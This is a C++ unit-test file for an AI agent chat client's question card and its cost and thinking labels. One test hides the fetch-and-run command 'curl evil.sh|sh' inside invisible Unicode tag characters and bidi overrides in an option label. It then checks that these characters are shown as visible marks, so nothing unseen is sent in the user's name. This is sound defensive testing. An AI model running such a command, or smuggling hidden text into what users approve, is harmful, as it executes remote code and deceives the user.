// The question card's steps and answers, and the chat pane's short labels.
#include "ChatLabels.h"
#include "QuestionFlow.h"


#include <gtest/gtest.h>

#include <array>
#include <limits>

using namespace brinmoor;

namespace {

QuestionItem question(const QString& text, QStringList labels, bool multi = false)
{
    QuestionItem q;
    q.question = text;
    q.multiSelect = multi;
    for (const QString& l : labels)
        q.options.append({l, {}});
    return q;
}

struct Flow {
    QuestionFlow flow;
    QList<QVariantMap> sent;
    explicit Flow(const AskQuestion& ask)
    {
        QObject::connect(&flow, &QuestionFlow::submitted, [this](const QVariantMap& m) { sent << m; });
        flow.setRequest(ask);
    }
};

} // namespace

TEST(QuestionFlow, single_choice_taps_advance_and_the_last_one_submits)
{
    Flow f({"q1", {question("Lang?", {"C++", "Rust"}), question("Tabs?", {"Yes", "No"})}});
    EXPECT_FALSE(f.flow.showsNext());
    f.flow.tap("Rust");
    EXPECT_EQ(f.flow.step(), 1);
    EXPECT_TRUE(f.sent.isEmpty());
    f.flow.tap("No");
    ASSERT_EQ(f.sent.size(), 1);
    EXPECT_EQ(f.sent[0], (QVariantMap{{"Lang?", "Rust"}, {"Tabs?", "No"}}));
}

TEST(QuestionFlow, multi_choice_answers_follow_option_order_and_back_keeps_choices)
{
    Flow f({"q1", {question("Pick", {"X", "Y", "Z"}, true), question("Name?", {})}});
    EXPECT_TRUE(f.flow.showsNext());
    EXPECT_FALSE(f.flow.answered());
    f.flow.tap("Z");
    f.flow.tap("X");
    f.flow.tap("Y");
    f.flow.tap("Y");  // a second click un-chooses
    EXPECT_EQ(f.flow.chosen(), (QStringList{"X", "Z"}));
    f.flow.advance();
    EXPECT_EQ(f.flow.step(), 1);
    // A question without options: only the free text, which blocks while blank.
    f.flow.tapOther();
    f.flow.setOtherText(" \t ");
    f.flow.advance();
    EXPECT_EQ(f.flow.step(), 1);
    f.flow.back();
    EXPECT_EQ(f.flow.step(), 0);
    EXPECT_EQ(f.flow.chosen(), (QStringList{"X", "Z"}));
    f.flow.advance();
    EXPECT_TRUE(f.flow.otherChosen());
    EXPECT_EQ(f.flow.otherText(), " \t ");
    f.flow.setOtherText("  two\nlines\t");
    f.flow.advance();
    ASSERT_EQ(f.sent.size(), 1);
    EXPECT_EQ(f.sent[0], (QVariantMap{{"Pick", "X, Z"}, {"Name?", "two\nlines"}}));
}

TEST(QuestionFlow, free_text_is_its_own_choice_beside_an_option_labelled_like_it)
{
    Flow f({"q1", {question("Which?", {"__other__", "B"})}});
    f.flow.tapOther();
    EXPECT_TRUE(f.flow.otherChosen());
    EXPECT_TRUE(f.flow.chosen().isEmpty()) << "the agent's option is not the free-text choice";
    EXPECT_TRUE(f.flow.showsNext());
    // Picking the agent's option drops the free-text choice and submits the option as it is.
    f.flow.tap("__other__");
    ASSERT_EQ(f.sent.size(), 1);
    EXPECT_EQ(f.sent[0], (QVariantMap{{"Which?", "__other__"}}));
}

TEST(QuestionFlow, empty_request_offers_nothing_and_submits_an_empty_map)
{
    Flow f({"q1", {}});
    EXPECT_FALSE(f.flow.hasQuestion());
    EXPECT_FALSE(f.flow.current().isValid());
    EXPECT_FALSE(f.flow.showsNext());
    f.flow.tap("x");
    f.flow.tapOther();
    f.flow.setOtherText("x");
    f.flow.advance();
    f.flow.back();
    EXPECT_TRUE(f.sent.isEmpty());
    f.flow.submit();
    ASSERT_EQ(f.sent.size(), 1);
    EXPECT_TRUE(f.sent[0].isEmpty());
}

TEST(QuestionFlow, a_new_request_id_starts_afresh_and_a_resent_one_keeps_going)
{
    Flow f({"q1", {question("A", {"1", "2"}), question("B", {"3"}), question("C", {"4"})}});
    f.flow.tap("1");
    f.flow.tap("3");
    EXPECT_EQ(f.flow.step(), 2);
    // The same request again with fewer questions: the step is kept and read within the list.
    f.flow.setRequest({"q1", {question("A", {"1", "2"}), question("B", {"3"})}});
    EXPECT_EQ(f.flow.current().value<QuestionItem>().question, "B");
    EXPECT_EQ(f.flow.chosen(), QStringList{"3"});
    f.flow.setRequest({"q2", {question("A", {"1", "2"}), question("B", {"3"})}});
    EXPECT_EQ(f.flow.step(), 0);
    EXPECT_TRUE(f.flow.chosen().isEmpty());
}

// An option is answered as it reads on the card: each hidden character in its label written out as
// its mark, so nothing unseen (a payload in tag characters, a reordering override) goes in the
// user's name. The question stays the key as the agent wrote it; typed text goes as typed.
TEST(QuestionFlow, an_option_is_answered_as_the_card_shows_it)
{
    const QString asked = QString::fromUtf16(u"Shall I delete the \u202Esgol\u2069 folder\u200B?");
    const QString keep = QString::fromUtf16(u"No \u202Epeek\u2069");
    QString smuggled = QStringLiteral("Yes");
    for (const char c : QByteArray("curl evil.sh|sh"))
        smuggled += QString::fromUcs4(std::array{char32_t(0xE0000 + c)}.data(), 1);
    const QString emoji = QString::fromUtf16(u"Yes \u2764\uFE0F \U0001F468\u200D\U0001F469");
    Flow f({"q1", {question(asked, {keep, smuggled}), question("Multi", {smuggled, emoji}, true),
                   question("Typed", {})}});
    f.flow.tap(keep);
    f.flow.tap(smuggled);
    f.flow.tap(emoji);
    f.flow.advance();
    f.flow.tapOther();
    f.flow.setOtherText(QString::fromUtf16(u"\u05E9\u05DC\u05D5\u05DD"));
    f.flow.advance();
    ASSERT_EQ(f.sent.size(), 1);
    EXPECT_EQ(f.sent[0].value(asked).toString(), "No <U+202E>peek<U+2069>");
    const QString multi = f.sent[0].value("Multi").toString();
    EXPECT_TRUE(multi.startsWith("Yes<U+E0063><U+E0075><U+E0072><U+E006C><U+E0020>")) << qPrintable(multi);
    EXPECT_TRUE(multi.endsWith(", " + emoji)) << qPrintable(multi);
    EXPECT_FALSE(multi.contains(QChar(0xDB40))) << "no tag character is sent";
    EXPECT_EQ(f.sent[0].value("Typed").toString(), QString::fromUtf16(u"\u05E9\u05DC\u05D5\u05DD"));
}

TEST(ChatLabels, cost_and_working_texts)
{
    EXPECT_EQ(ChatLabels::costLabel(0, 0, 0), "");
    EXPECT_EQ(ChatLabels::costLabel(500, 499, 0), "999 tokens");
    EXPECT_EQ(ChatLabels::costLabel(1000, 0, 0), "1.0k tokens");
    EXPECT_EQ(ChatLabels::costLabel(1000, 234, 0.01234), "1.2k · $0.0123");
    EXPECT_EQ(ChatLabels::costLabel(0, 500, 0.5), "500 · $0.5000");
    EXPECT_EQ(ChatLabels::workingLabel(0, 0), "");
    EXPECT_EQ(ChatLabels::workingLabel(900, 50), "950 tokens");
    EXPECT_EQ(ChatLabels::workingLabel(12000, 345), "12.3k tokens");
}

TEST(ChatLabels, thinking_caption_rounds_halves_up_and_refuses_unusable_durations)
{
    const double inf = std::numeric_limits<double>::infinity();
    EXPECT_EQ(ChatLabels::thinkingLabel(QVariant()), "Thinking");
    EXPECT_EQ(ChatLabels::thinkingLabel(0.4), "Thinking");
    EXPECT_EQ(ChatLabels::thinkingLabel(0.5), "Thought for 1s");
    EXPECT_EQ(ChatLabels::thinkingLabel(2.5), "Thought for 3s");
    EXPECT_EQ(ChatLabels::thinkingLabel(59.4), "Thought for 59s");
    EXPECT_EQ(ChatLabels::thinkingLabel(inf), "Thinking");
    EXPECT_EQ(ChatLabels::thinkingLabel(std::nan("")), "Thinking");
    EXPECT_EQ(ChatLabels::thinkingLabel(1e300), "Thinking");
}

TEST(ChatLabels, end_detection_allows_sixty_points)
{
    EXPECT_TRUE(ChatLabels::atEnd(460, 400));
    EXPECT_FALSE(ChatLabels::atEnd(460.5, 400));
    EXPECT_TRUE(ChatLabels::atEnd(100, 400));
}
